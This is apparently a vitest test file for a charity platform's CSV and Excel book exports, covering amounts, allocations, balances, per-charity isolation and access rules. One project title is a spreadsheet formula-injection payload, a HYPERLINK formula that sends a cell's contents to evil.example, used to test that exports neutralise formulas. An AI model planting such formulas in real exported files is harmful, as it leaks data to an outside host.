import type { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BookTable } from '../src/books/book-tables.js';
import { booksCsv } from '../src/books/books-csv.js';
import { booksWorkbook } from '../src/books/books-workbook.js';
import { neutraliseFormula, yuan } from '../src/books/cells.js';
import { ExportGate } from '../src/books/export-gate.js';
import type { SandboxPaymentProvider } from '../src/payments/sandbox.js';
import { Client, createStaff, errorCode, startTestApp, type TestApp } from './support/app.js';
import {
  beneficiary,
  drainLog,
  paidDonation,
  projectBody,
  publishedProject,
  samplePdf,
  samplePng,
  startGuestDonation,
  upload,
} from './support/money.js';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => {
  await t.close();
});

/** A strict RFC 4180 reader: quoted fields may hold commas, quotes and line breaks; CRLF ends a record. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else field += text[i++];
      }
      if (i < text.length && text[i] !== ',' && text[i] !== '\r')
        throw new Error(`text after a closing quote at ${i}`);
    } else if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text[i] === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (text[i] === '"' || text[i] === '\n' || text[i] === '\r') {
      throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
    } else field += text[i++];
  }
  if (field !== '' || record.length) throw new Error('the last record has no CRLF');
  return records;
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** The body after its BOM, parsed; the header row checked and dropped. */
function csvRows(res: LightMyRequestResponse, header: string[]): string[][] {
  expect(res.statusCode, res.body).toBe(200);
  expect(res.rawPayload.subarray(0, 3).equals(BOM)).toBe(true);
  const [head, ...rows] = parseCsv(res.rawPayload.subarray(3).toString('utf8'));
  expect(head).toEqual(header);
  return rows;
}

/** "1234.50" → 123450n: the test adds fen, as the books do. */
const fen = (s: string) => {
  expect(s).toMatch(/^\d+\.\d\d$/);
  return BigInt(s.replace('.', ''));
};
const sum = (values: string[]) => values.reduce((a, v) => a + fen(v), 0n);

async function read(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(Buffer.from(c));
  return Buffer.concat(chunks);
}

const injectionTitle = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

const headers = {
  donations: [
    'donation id',
    'project id',
    'project',
    'paid at (UTC)',
    'amount',
    'status',
    'refunded at (UTC)',
    'allocated',
    'unspent',
    'owed',
    'donor',
    'monthly',
    'log index',
  ],
  disbursements: [
    'disbursement id',
    'project id',
    'project',
    'date',
    'amount',
    'budget line',
    'payee',
    'payee kind',
    'payee region',
    'purpose',
    'evidence sha256',
    'confirmed at (UTC)',
    'log index',
  ],
  allocations: ['disbursement id', 'donation id', 'amount'],
  balances: [
    'row',
    'project id',
    'project',
    'status',
    'budget line',
    'goal / budget',
    'raised',
    'refunded',
    'owed',
    'spent',
    'confirmed',
    'unspent',
  ],
};

async function refund(donationId: string) {
  const row = await t.database.db
    .selectFrom('donations')
    .select(['provider_ref', 'amount'])
    .where('id', '=', donationId)
    .executeTakeFirstOrThrow();
  const sandbox = t.app.payments as unknown as SandboxPaymentProvider;
  const { body, headers } = sandbox.signCallback({
    kind: 'payment.refunded',
    providerRef: row.provider_ref!,
    donationId,
    amount: Number(row.amount),
    currency: 'CNY',
  });
  const res = await t.app.inject({
    method: 'POST',
    url: '/api/payments/webhooks/sandbox',
    payload: body,
    headers,
  });
  expect(res.json()).toMatchObject({ outcome: 'refunded' });
}

async function disburse(owner: Client, orgId: string, projectId: string, body: object) {
  const res = await owner.post(`/api/orgs/${orgId}/projects/${projectId}/disbursements`, {
    currency: 'CNY',
    date: '2026-11-20',
    ...body,
  });
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as { id: string; ackCode: string };
}

/**
 * Charity A: a project titled like a spreadsheet formula with four paid donations (one
 * refunded, one monthly, one anonymous, one named in Chinese), one pending, two
 * disbursements (one confirmed), and a second project. Charity B: its own money, which must
 * never show in A's books.
 */
async function charityBooks() {
  const { owner, orgId, project } = await publishedProject(t, { title: injectionTitle });
  const registrationNumber = (await owner.get(`/api/orgs/${orgId}`)).json()
    .registrationNumber as string;
  const waterRes = await owner.post(
    `/api/orgs/${orgId}/projects`,
    projectBody({
      title: '清水 Clean water',
      goal: { amount: 1_000_000, currency: 'CNY' },
      budget: [{ label: 'Pipes', amount: 1_000_000 }],
    }),
  );
  const water = waterRes.json() as { id: string; budget: { id: string }[] };
  expect((await owner.post(`/api/orgs/${orgId}/projects/${water.id}/publish`)).statusCode).toBe(
    200,
  );

  const d1 = await paidDonation(t, project.id, 3000, { displayName: 'Li Wei' });
  const d2 = await paidDonation(t, project.id, 2000, { anonymous: true, displayName: 'Secret' });
  const d3 = await paidDonation(t, project.id, 123_450, {
    displayName: '王小明',
    frequency: 'monthly',
  });
  const d4 = await paidDonation(t, project.id, 5000, { displayName: '@SUM(1+1)' });
  const d5 = await paidDonation(t, water.id, 8888);
  await startGuestDonation(t, project.id, 999); // never paid: not in the books

  const invoice = await upload(owner, orgId, samplePdf, 'application/pdf');
  const photo = await upload(owner, orgId, samplePng, 'image/png');
  const school = await beneficiary(owner, orgId);
  const personRes = await owner.post(`/api/orgs/${orgId}/beneficiaries`, {
    name: 'Zhang San',
    kind: 'person',
    region: 'Yunnan',
  });
  const person = (personRes.json() as { id: string }).id;
  const books = await disburse(owner, orgId, project.id, {
    amount: 4000,
    budgetLineId: project.budget[0]!.id,
    beneficiaryId: school,
    purpose: 'Textbooks, grade 3',
    evidence: [
      { sha256: invoice, kind: 'invoice' },
      { sha256: photo, kind: 'photo' },
    ],
  });
  const confirmed = await new Client(t.app).post(`/api/acknowledgements/${books.ackCode}`, {});
  expect(confirmed.statusCode, confirmed.body).toBe(200);
  const fare = await disburse(owner, orgId, project.id, {
    amount: 500,
    budgetLineId: project.budget[1]!.id,
    beneficiaryId: person,
    purpose: 'Bus fare, "return"\nand lunch',
    date: '2026-11-21',
    evidence: [{ sha256: invoice, kind: 'receipt' }],
  });
  await refund(d4.donation.id);

  const other = await publishedProject(t, { title: 'Other charity project' });
  const otherDonation = await paidDonation(t, other.project.id, 7777, { displayName: 'Other' });
  await drainLog(t);
  return {
    owner,
    orgId,
    registrationNumber,
    project,
    water,
    donations: [d1, d2, d3, d4, d5].map((d) => d.donation.id),
    invoice,
    photo,
    disbursements: [books.id, fare.id],
    other: { ...other, donationId: otherDonation.donation.id },
  };
}

let books: Awaited<ReturnType<typeof charityBooks>>;
beforeAll(async () => {
  books = await charityBooks();
}, 120_000);

const csvUrl = (orgId: string, table: string) => `/api/orgs/${orgId}/books/${table}.csv`;

describe('a charity exports its books as CSV for its accountant', () => {
  it('donations: every paid or refunded donation once, in yuan with 2 decimals, names but never emails, each findable on the log', async () => {
    const res = await books.owner.get(csvUrl(books.orgId, 'donations'));
    const rows = csvRows(res, headers.donations);
    const [d1, d2, d3, d4, d5] = books.donations;
    const title = `'${injectionTitle}`;
    expect(rows.map((r) => [r[0], r[1], r[2], ...r.slice(4, 6), ...r.slice(7, 12)])).toEqual([
      [d1, books.project.id, title, '30.00', 'paid', '30.00', '0.00', '0.00', 'Li Wei', 'no'],
      [d2, books.project.id, title, '20.00', 'paid', '15.00', '5.00', '0.00', 'Anonymous', 'no'],
      [d3, books.project.id, title, '1234.50', 'paid', '0.00', '1234.50', '0.00', '王小明', 'yes'],
      [
        d4,
        books.project.id,
        title,
        '50.00',
        'refunded',
        '0.00',
        '0.00',
        '0.00',
        "'@SUM(1+1)",
        'no',
      ],
      [
        d5,
        books.water.id,
        '清水 Clean water',
        '88.88',
        'paid',
        '0.00',
        '88.88',
        '0.00',
        'Anonymous',
        'no',
      ],
    ]);
    for (const r of rows) expect(r[3]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(rows.map((r) => r[6] !== '')).toEqual([false, false, false, true, false]);
    expect(sum(rows.map((r) => r[4]!))).toBe(3000n + 2000n + 123_450n + 5000n + 8888n);
    expect(res.body).not.toContain('@example.org');
    expect(res.body).not.toContain('Secret');

    // The log index leads to the donation's own event on the public log.
    for (const r of rows) {
      const entry = (await new Client(t.app).get(`/api/log/entries/${r[12]}`)).json();
      expect(entry.event).toMatchObject({ type: 'donation.received', data: { donationId: r[0] } });
    }
  });

  it('disbursements: payee, budget line, purpose with commas, quotes and line breaks, evidence hashes, confirmation, log index', async () => {
    const rows = csvRows(
      await books.owner.get(csvUrl(books.orgId, 'disbursements')),
      headers.disbursements,
    );
    const [schoolBooks, fare] = books.disbursements;
    expect(rows.map((r) => r.slice(0, 11))).toEqual([
      [
        schoolBooks,
        books.project.id,
        `'${injectionTitle}`,
        '2026-11-20',
        '40.00',
        'Books',
        'Hillside Primary School',
        'school',
        'Yunnan',
        'Textbooks, grade 3',
        `${books.invoice} ${books.photo}`,
      ],
      [
        fare,
        books.project.id,
        `'${injectionTitle}`,
        '2026-11-21',
        '5.00',
        'Transport',
        'Zhang San',
        'person',
        'Yunnan',
        'Bus fare, "return"\nand lunch',
        books.invoice,
      ],
    ]);
    expect(rows[0]![11]).toMatch(/^\d{4}-\d\d-\d\dT.*Z$/);
    expect(rows[1]![11]).toBe('');
    for (const r of rows) {
      const entry = (await new Client(t.app).get(`/api/log/entries/${r[12]}`)).json();
      expect(entry.event).toMatchObject({
        type: 'funds.disbursed',
        data: { disbursementId: r[0] },
      });
    }
  });

  it("allocations: each disbursement's FIFO draw on donations, adding up to both sides", async () => {
    const rows = csvRows(
      await books.owner.get(csvUrl(books.orgId, 'allocations')),
      headers.allocations,
    );
    const [d1, d2] = books.donations;
    const [schoolBooks, fare] = books.disbursements;
    expect(rows).toEqual([
      [schoolBooks, d1, '30.00'],
      [schoolBooks, d2, '10.00'],
      [fare, d2, '5.00'],
    ]);
    const donations = csvRows(
      await books.owner.get(csvUrl(books.orgId, 'donations')),
      headers.donations,
    );
    for (const d of donations)
      expect(sum(rows.filter((r) => r[1] === d[0]).map((r) => r[2]!))).toBe(fen(d[7]!));
  });

  it('balances: per project goal, raised, refunded, spent, confirmed, unspent, and each budget line against its spending', async () => {
    const rows = csvRows(await books.owner.get(csvUrl(books.orgId, 'balances')), headers.balances);
    const p = books.project.id;
    const title = `'${injectionTitle}`;
    const w = books.water.id;
    expect(rows).toEqual([
      [
        'project',
        p,
        title,
        'published',
        '',
        '35000.00',
        '1334.50',
        '50.00',
        '0.00',
        '45.00',
        '40.00',
        '1239.50',
      ],
      ['budget line', p, title, 'published', 'Books', '30000.00', '', '', '', '40.00', '40.00', ''],
      [
        'budget line',
        p,
        title,
        'published',
        'Transport',
        '5000.00',
        '',
        '',
        '',
        '5.00',
        '0.00',
        '',
      ],
      [
        'project',
        w,
        '清水 Clean water',
        'published',
        '',
        '10000.00',
        '88.88',
        '0.00',
        '0.00',
        '0.00',
        '0.00',
        '88.88',
      ],
      [
        'budget line',
        w,
        '清水 Clean water',
        'published',
        'Pipes',
        '10000.00',
        '',
        '',
        '',
        '0.00',
        '0.00',
        '',
      ],
    ]);
    // raised − refunded + owed − spent = unspent, and the lines' spending is the project's.
    const project = rows[0]!;
    expect(fen(project[6]!) - fen(project[7]!) + fen(project[8]!) - fen(project[9]!)).toBe(
      fen(project[11]!),
    );
    expect(sum([rows[1]![9]!, rows[2]![9]!])).toBe(fen(project[9]!));
  });

  it("never shows another charity's rows, and the other charity sees only its own", async () => {
    for (const table of ['donations', 'disbursements', 'allocations', 'balances']) {
      const body = (await books.owner.get(csvUrl(books.orgId, table))).body;
      expect(body).not.toContain(books.other.project.id);
      expect(body).not.toContain(books.other.donationId);
      expect(body).not.toContain('Other charity project');
    }
    const theirs = csvRows(
      await books.other.owner.get(csvUrl(books.other.orgId, 'donations')),
      headers.donations,
    );
    expect(theirs.map((r) => [r[0], r[4], r[10]])).toEqual([
      [books.other.donationId, '77.77', 'Other'],
    ]);
  });

  it('answers a download: CSV type, attachment named after the registration number and date, never cached', async () => {
    const res = await books.owner.get(csvUrl(books.orgId, 'donations'));
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(
        `^attachment; filename="donations-${books.registrationNumber}-\\d{4}-\\d\\d-\\d\\d\\.csv"$`,
      ),
    );
  });

  it('neutralises spreadsheet formulas in text cells: = + - @ tab and CR get a leading apostrophe', () => {
    expect(
      ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', 'Li Wei', '1=1', "'x"].map(neutraliseFormula),
    ).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", 'Li Wei', '1=1', "'x"]);
  });

  it('formats fen as yuan exactly, without floating point', () => {
    expect([0, 5, 50, 100, 123_450, '9007199254740993', -250].map((f) => yuan(f))).toEqual([
      '0.00',
      '0.05',
      '0.50',
      '1.00',
      '1234.50',
      '90071992547409.93',
      '-2.50',
    ]);
  });

  it('an unknown table is not found', async () => {
    for (const url of [
      csvUrl(books.orgId, 'users'),
      csvUrl(books.orgId, 'donations.csv'),
      `/api/orgs/${books.orgId}/books/donations.xlsx`,
    ]) {
      const res = await books.owner.get(url);
      expect([res.statusCode, errorCode(res)], url).toEqual([404, 'not_found']);
    }
  });

  it('reads page after page without losing or repeating a row', async () => {
    for (const table of ['donations', 'disbursements', 'allocations', 'balances'] as BookTable[]) {
      const whole = (await books.owner.get(csvUrl(books.orgId, table))).rawPayload;
      const paged = await read(
        booksCsv(
          { database: t.database, gate: new ExportGate(1), orgId: books.orgId, pageSize: 1 },
          table,
        ),
      );
      expect(paged.toString('utf8'), table).toBe(whole.toString('utf8'));
    }
  });
});

describe('a charity exports its books as one workbook', () => {
  async function workbook(client: Client, orgId: string) {
    const res = await client.get(`/api/orgs/${orgId}/books.xlsx`);
    expect(res.statusCode, res.body).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer);
    return { res, wb };
  }

  /** A sheet's rows under its header, as exceljs reads the cells back. */
  function sheetRows(wb: ExcelJS.Workbook, name: string): ExcelJS.Row[] {
    const sheet = wb.getWorksheet(name);
    expect(sheet, name).toBeDefined();
    const rows: ExcelJS.Row[] = [];
    sheet!.eachRow((row, n) => {
      if (n > 1) rows.push(row);
    });
    return rows;
  }
  const toFen = (v: ExcelJS.CellValue) => Math.round((v as number) * 100);

  it('opens in a spreadsheet with the four tables and an About sheet, numbers as numbers in ¥, totals right', async () => {
    const { res, wb } = await workbook(books.owner, books.orgId);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(
        `^attachment; filename="books-${books.registrationNumber}-\\d{4}-\\d\\d-\\d\\d\\.xlsx"$`,
      ),
    );
    expect(wb.worksheets.map((s) => s.name)).toEqual([
      'Donations',
      'Disbursements',
      'Allocations',
      'Balances',
      'About',
    ]);
    expect(wb.getWorksheet('Donations')!.getRow(1).values).toEqual([
      undefined,
      ...headers.donations,
    ]);

    const donations = sheetRows(wb, 'Donations');
    expect(donations.map((r) => r.getCell(1).value)).toEqual(books.donations);
    const amount = donations[2]!.getCell(5);
    expect(amount.value).toBe(1234.5);
    expect(amount.numFmt).toContain('¥');
    expect(amount.numFmt).toContain('0.00');
    expect(donations[0]!.getCell(4).value).toBeInstanceOf(Date);
    expect(donations.reduce((s, r) => s + toFen(r.getCell(5).value), 0)).toBe(
      3000 + 2000 + 123_450 + 5000 + 8888,
    );
    expect(typeof donations[0]!.getCell(13).value).toBe('number');

    const disbursements = sheetRows(wb, 'Disbursements');
    expect(disbursements.reduce((s, r) => s + toFen(r.getCell(5).value), 0)).toBe(4500);
    expect(disbursements[0]!.getCell(4).value).toEqual(new Date('2026-11-20T00:00:00Z'));
    const allocations = sheetRows(wb, 'Allocations');
    expect(allocations.reduce((s, r) => s + toFen(r.getCell(3).value), 0)).toBe(4500);

    const balances = sheetRows(wb, 'Balances').filter((r) => r.getCell(1).value === 'project');
    const total = (col: number) => balances.reduce((s, r) => s + toFen(r.getCell(col).value), 0);
    expect([total(7), total(8), total(9), total(10), total(11), total(12)]).toEqual([
      133_450 + 8888,
      5000,
      0,
      4500,
      4000,
      133_450 + 8888 - 5000 - 4500,
    ]);
  });

  it('keeps a formula-looking title as plain text, never a formula', async () => {
    const { wb } = await workbook(books.owner, books.orgId);
    const cell = sheetRows(wb, 'Donations')[0]!.getCell(3);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(injectionTitle);
    expect(cell.formula).toBeUndefined();
  });

  it('says whose books these are, when, and which log they can be checked against', async () => {
    const { wb } = await workbook(books.owner, books.orgId);
    const about = new Map<string, ExcelJS.CellValue>();
    wb.getWorksheet('About')!.eachRow((row) => {
      about.set(String(row.getCell(1).value), row.getCell(2).value);
    });
    const org = (await books.owner.get(`/api/orgs/${books.orgId}`)).json();
    const log = (await new Client(t.app).get('/api/log/entries?limit=1')).json();
    expect(about.get('Charity')).toBe(org.name);
    expect(about.get('Registration number')).toBe(books.registrationNumber);
    expect(about.get('Generated at (UTC)')).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(about.get('Log origin')).toBe('test.goodtrace.example/log');
    expect(about.get('Log tree size')).toBe(log.treeSize);
    expect(about.get('Amounts')).toMatch(/yuan.*2 decimals/);
    expect(about.get('Verification')).toMatch(/verified on the public log by its id/);
  });

  it("holds only this charity's rows", async () => {
    const { wb } = await workbook(books.other.owner, books.other.orgId);
    expect(sheetRows(wb, 'Donations').map((r) => r.getCell(1).value)).toEqual([
      books.other.donationId,
    ]);
    expect(sheetRows(wb, 'Disbursements')).toEqual([]);
    expect(sheetRows(wb, 'Balances').map((r) => r.getCell(2).value)).toEqual([
      books.other.project.id,
      books.other.project.id,
      books.other.project.id,
    ]);
  });
});

describe('who may export the books', () => {
  const urls = (orgId: string) => [
    `/api/orgs/${orgId}/books.xlsx`,
    ...['donations', 'disbursements', 'allocations', 'balances'].map((x) => csvUrl(orgId, x)),
  ];

  it('anonymous: 401; a member of another charity: 403', async () => {
    for (const url of urls(books.orgId)) {
      const anonymous = await new Client(t.app).get(url);
      expect([anonymous.statusCode, errorCode(anonymous)], url).toEqual([401, 'unauthenticated']);
      const stranger = await books.other.owner.get(url);
      expect([stranger.statusCode, errorCode(stranger)], url).toEqual([403, 'forbidden']);
    }
  });

  it('an auditor and an admin read any charity’s books; an editor reads its own', async () => {
    const auditor = await createStaff(t, 'books-auditor@example.org', 'auditor');
    const admin = await createStaff(t, 'books-admin@example.org', 'admin');
    const editor = await new Client(t.app).signUp('books-editor@example.org');
    const invite = await books.owner.post(`/api/orgs/${books.orgId}/invitations`, {
      email: 'books-editor@example.org',
      role: 'editor',
    });
    expect(invite.statusCode, invite.body).toBe(201);
    const accepted = await editor.post(`/api/me/invitations/${invite.json().id}/accept`);
    expect(accepted.statusCode, accepted.body).toBe(200);
    for (const client of [auditor, admin, editor]) {
      for (const url of urls(books.orgId)) {
        const res = await client.get(url);
        expect(res.statusCode, url).toBe(200);
      }
    }
    const missing = await auditor.get(csvUrl('00000000-0000-4000-8000-000000000000', 'donations'));
    expect([missing.statusCode, errorCode(missing)]).toEqual([404, 'not_found']);
  });
});

describe('a download cut short', () => {
  it('frees its place and its snapshot for the next export, CSV or workbook', async () => {
    const gate = new ExportGate(1);
    const source = { database: t.database, gate, orgId: books.orgId, pageSize: 1 };
    const facts = { charity: { name: 'x', registrationNumber: 'x' }, generatedAt: new Date(0) };
    for (const start of [() => booksCsv(source, 'donations'), () => booksWorkbook(source, facts)]) {
      const cut = start();
      await new Promise((r) => cut.once('data', r));
      cut.destroy();
      // With the place still taken this would wait for ever (and the test time out).
      const whole = await read(start());
      expect(whole.length).toBeGreaterThan(100);
    }
  });
});

describe('export gate', () => {
  it('lets a bounded number of exports read at once; the next starts when one ends', async () => {
    const gate = new ExportGate(1);
    const first = await gate.enter();
    let secondIn = false;
    const second = gate.enter().then((leave) => {
      secondIn = true;
      return leave;
    });
    await new Promise((r) => setImmediate(r));
    expect(secondIn).toBe(false);
    first();
    first(); // leaving twice frees one place only
    const leave = await second;
    expect(secondIn).toBe(true);
    let thirdIn = false;
    const third = gate.enter().then(() => {
      thirdIn = true;
    });
    await new Promise((r) => setImmediate(r));
    expect(thirdIn).toBe(false);
    leave();
    await third;
  });
});
